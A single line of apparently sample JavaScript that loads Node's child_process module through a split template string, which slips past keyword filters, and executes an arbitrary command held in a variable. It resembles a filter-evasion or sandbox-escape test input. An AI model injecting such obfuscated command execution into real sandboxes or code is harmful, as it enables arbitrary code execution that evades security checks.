require(`child_${'process'}`).exec(x)
